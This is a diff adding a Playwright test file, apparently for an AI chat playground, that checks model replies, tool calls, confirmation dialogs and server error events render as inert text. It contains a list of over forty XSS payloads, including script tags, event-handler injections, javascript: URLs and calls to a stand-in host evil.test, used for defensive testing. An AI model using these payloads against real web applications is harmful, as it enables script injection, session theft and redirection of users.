@@ -1,0 +1,197 @@
+"""What a model, a tool or a server says is text, wherever it is shown."""
+
+import json
+from collections.abc import AsyncGenerator
+from typing import Any
+
+import pytest
+from playwright.async_api import Browser, Route, expect
+from tests.support.playground import Playground, expect_text, open_playground
+from tests.support.server import running_server
+
+pytestmark = [pytest.mark.anyio, pytest.mark.browser]
+
+PAYLOADS = [
+    "<script>pwned=1</script>",
+    "<script src=//evil.test/x.js></script>",
+    "<ScRiPt>pwned=1</sCrIpT>",
+    "<script type=module>pwned=1</script>",
+    "</script><script>pwned=1</script>",
+    "</pre></code></div><script>pwned=1</script>",
+    "</textarea><script>pwned=1</script>",
+    "</title><script>pwned=1</script>",
+    "</style><script>pwned=1</script>",
+    "<!--<img src=x onerror=pwned=1>-->",
+    "--><img src=x onerror=pwned=1>",
+    "<img src=x onerror=pwned=1>",
+    "<img src='x' onerror='pwned=1'/>",
+    '"><img src=x onerror=pwned=1>',
+    "'><img src=x onerror=pwned=1>",
+    "<img src=//evil.test/track.png>",
+    "<svg onload=pwned=1>",
+    "<svg><script>pwned=1</script></svg>",
+    "<svg><animate onbegin=pwned=1 attributeName=x dur=1s>",
+    "<svg><a href=javascript:pwned=1><text>x</text></a></svg>",
+    "<math><mtext></table><img src=x onerror=pwned=1>",
+    "<iframe src=javascript:pwned=1></iframe>",
+    '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
+    "<object data=javascript:pwned=1></object>",
+    "<embed src=//evil.test/x.swf>",
+    "<body onload=pwned=1>",
+    "<details open ontoggle=pwned=1>x</details>",
+    "<input autofocus onfocus=pwned=1>",
+    "<video><source onerror=pwned=1></video>",
+    "<audio src=x onerror=pwned=1></audio>",
+    "<marquee onstart=pwned=1>x</marquee>",
+    "<a href=javascript:pwned=1>click</a>",
+    "<form action=//evil.test><button>x</button></form>",
+    "<meta http-equiv=refresh content=0;url=//evil.test>",
+    "<base href=//evil.test/>",
+    "<link rel=stylesheet href=//evil.test/x.css>",
+    "<style>@import '//evil.test/x.css';</style>",
+    "<template><script>pwned=1</script></template>",
+    "&lt;script&gt;pwned=1&lt;/script&gt;",
+    "[x](javascript:pwned=1) ![x](//evil.test/x.png) `${pwned=1}` {{constructor.constructor('pwned=1')()}}",
+    "\u202e<img src=x onerror=pwned=1>\u0000\u2028",
+    "javascript:/*--></title></style></textarea></script><svg/onload='pwned=1'>",
+]
+assert len(PAYLOADS) >= 40
+
+HARMLESS = {
+    "article", "button", "code", "details", "div", "header", "li", "p", "pre", "section", "span", "strong",
+    "summary", "svg", "time", "use",
+}  # fmt: skip
+
+
+@pytest.fixture(scope="module")
+async def puppet_url() -> AsyncGenerator[str]:
+    async with running_server("tests.support.puppet:agent") as server:
+        yield server.url
+
+
+async def assert_only_text(playground: Playground) -> None:
+    """Nothing ran, nothing was asked of other places (the tab checks that), and no element was made."""
+    page = playground.page
+    await page.evaluate(
+        """async () => {
+            for (const line of document.querySelectorAll('#events details')) line.open = true;
+            await new Promise(resolve => setTimeout(resolve));  // their toggle events
+        }"""
+    )
+    made = await page.evaluate(
+        "[...document.querySelectorAll('#transcript *, #events *, #confirm-question *')].map(e => e.localName)"
+    )
+    assert set(made) <= HARMLESS
+    assert await page.evaluate("typeof globalThis.pwned") == "undefined"
+
+
+def visible(text: str) -> str:
+    """Text as the page holds it: NUL cannot be in a document."""
+    return text.replace("\u0000", "")
+
+
+async def test_what_a_model_says_and_thinks_is_text(browser: Browser, puppet_url: str) -> None:
+    everything = "\n".join(PAYLOADS)
+    async with open_playground(browser, puppet_url) as playground:
+        await playground.say(json.dumps({"say": everything, "think": everything}))
+        assert await playground.answers() == [everything]
+        reasoning = playground.page.locator(".reasoning-text")
+        assert await reasoning.text_content() == everything
+        await assert_only_text(playground)
+        await playground.page.reload()
+        await expect_text(playground, PAYLOADS[0])
+        assert await playground.answers() == [everything]
+        await assert_only_text(playground)
+
+
+async def test_names_arguments_and_results_of_tools_are_text(
+    browser: Browser, puppet_url: str
+) -> None:
+    calls = [[payload, json.dumps({"x": payload})] for payload in PAYLOADS]
+    calls += [["echo", json.dumps({"text": payload})] for payload in PAYLOADS]
+    async with open_playground(browser, puppet_url) as playground:
+        await playground.say(json.dumps({"calls": calls}))
+        await expect_text(playground, "Done.")
+        cards = await playground.page.locator(".tool").all_text_contents()
+        echoed = [card for card in cards if card.startswith("echo")]
+        assert len(echoed) == len(PAYLOADS)
+        for card, payload in zip(echoed, PAYLOADS, strict=True):
+            assert payload in card
+        await assert_only_text(playground)
+
+
+async def test_a_question_is_text_and_a_colour_is_a_listed_word(
+    browser: Browser, puppet_url: str
+) -> None:
+    async with open_playground(browser, puppet_url) as playground:
+        question = "\n".join(PAYLOADS)
+        calls = [["ask-user-to-confirm", json.dumps({"question": question})]]
+        calls += [["change-background-color", json.dumps({"color": each})] for each in PAYLOADS]
+        before = await playground.background()
+        await playground.write(json.dumps({"calls": calls}))
+        dialog = playground.page.get_by_role("dialog")
+        await expect(dialog).to_be_visible()
+        assert await dialog.locator("#confirm-question").text_content() == question
+        await assert_only_text(playground)
+        await dialog.get_by_role("button", name="Decline").click()
+        await expect_text(playground, "Done.")
+        assert await playground.background() == before
+        results = playground.posts[1]["messages"]
+        assert [result["content"] for result in results if not result.get("isError")] == [
+            "declined"
+        ]
+        await assert_only_text(playground)
+
+
+async def test_a_server_that_lies_is_shown_as_text(browser: Browser, puppet_url: str) -> None:
+    """Every field of every event, the codes of errors included, and of an error's body."""
+    async with open_playground(browser, puppet_url) as playground:
+        for payload in PAYLOADS:
+            await _answer_with(playground, _events_of(payload))
+            await playground.say("hi")
+            problem = playground.page.get_by_role("alert")
+            await expect(problem).to_have_count(1)
+            assert visible(payload) in visible(await problem.text_content() or "")
+        await assert_only_text(playground)
+
+
+async def test_an_error_that_lies_is_shown_as_text(browser: Browser, puppet_url: str) -> None:
+    async with open_playground(browser, puppet_url) as playground:
+        for payload in PAYLOADS:
+            body = json.dumps({"code": payload, "message": payload, "request_id": payload})
+            await _fulfil(playground, status=422, content_type="application/json", body=body)
+            await playground.say("hi")
+            problem = playground.page.get_by_role("alert")
+            await expect(problem).to_have_count(1)
+            assert payload in (await problem.text_content() or "")
+        await assert_only_text(playground)
+
+
+def _events_of(payload: str) -> list[dict[str, Any]]:
+    return [
+        {"type": payload, payload: payload},
+        {"type": "message", "messageId": payload},
+        {"type": "reasoning", "delta": payload},
+        {"type": "text", "content": payload},
+        {"type": "tool-call-start", "toolCallId": payload, "toolCallName": payload},
+        {"type": "tool-call-args", "toolCallId": payload, "delta": payload},
+        {"type": "tool-call-end", "toolCallId": payload},
+        {"type": "tool-result", "toolCallId": payload, "result": payload},
+        {"type": "interrupt", "id": payload, "reason": payload, "payload": payload},
+        {"type": "run-end", "outcome": payload, "reason": payload},
+        {"type": "error", "error": payload, "code": payload, "retryable": payload},
+    ]
+
+
+async def _answer_with(playground: Playground, events: list[dict[str, Any]]) -> None:
+    frames = "".join(f"id: {each['type']}\ndata: {json.dumps(each)}\n\n" for each in events)
+    body = f"{frames}data: [DONE]\n\n"
+    await _fulfil(playground, content_type="text/event-stream", body=body)
+
+
+async def _fulfil(playground: Playground, **answer: Any) -> None:
+    async def fulfil(route: Route) -> None:
+        await route.fulfill(**answer)
+
+    await playground.page.unroute_all()
+    await playground.page.route("**/send-message", fulfil)
